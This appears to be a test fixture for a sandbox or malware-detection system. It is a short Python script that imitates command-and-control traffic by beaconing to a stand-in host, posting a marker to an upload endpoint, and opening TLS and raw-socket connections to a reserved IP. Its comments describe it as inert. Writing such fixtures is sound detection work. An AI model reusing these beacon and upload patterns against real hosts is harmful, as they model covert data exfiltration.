#!/usr/bin/env python3
# SANDTRAP-TEST-MALICIOUS: command-and-control sample. Inert: every name it uses is answered by the
# agent's fake resolver and every connection lands on the agent's fake network.
import socket
import ssl
import urllib.request

print("SANDTRAP-TEST-MALICIOUS network sample")
agent = {"User-Agent": "SANDTRAP-TEST-MALICIOUS/1.0"}
try:
    urllib.request.urlopen(urllib.request.Request("http://c2.example.test/beacon?id=42", headers=agent), timeout=3).read()
    urllib.request.urlopen(urllib.request.Request("http://c2.example.test/upload", data=b"host=sandbox&marker=SANDTRAP-TEST-MALICIOUS", headers=agent), timeout=3).read()
except OSError as error:
    print("http:", error)
try:
    context = ssl.create_default_context()
    with socket.create_connection(("c2.example.test", 443), timeout=3) as raw:
        with context.wrap_socket(raw, server_hostname="c2.example.test"):
            pass
except (OSError, ssl.SSLError) as error:
    print("tls:", type(error).__name__)
try:
    with socket.create_connection(("203.0.113.10", 8081), timeout=3) as direct:
        direct.sendall(b"SANDTRAP-TEST-MALICIOUS hello\n")
except OSError as error:
    print("raw ip:", error)
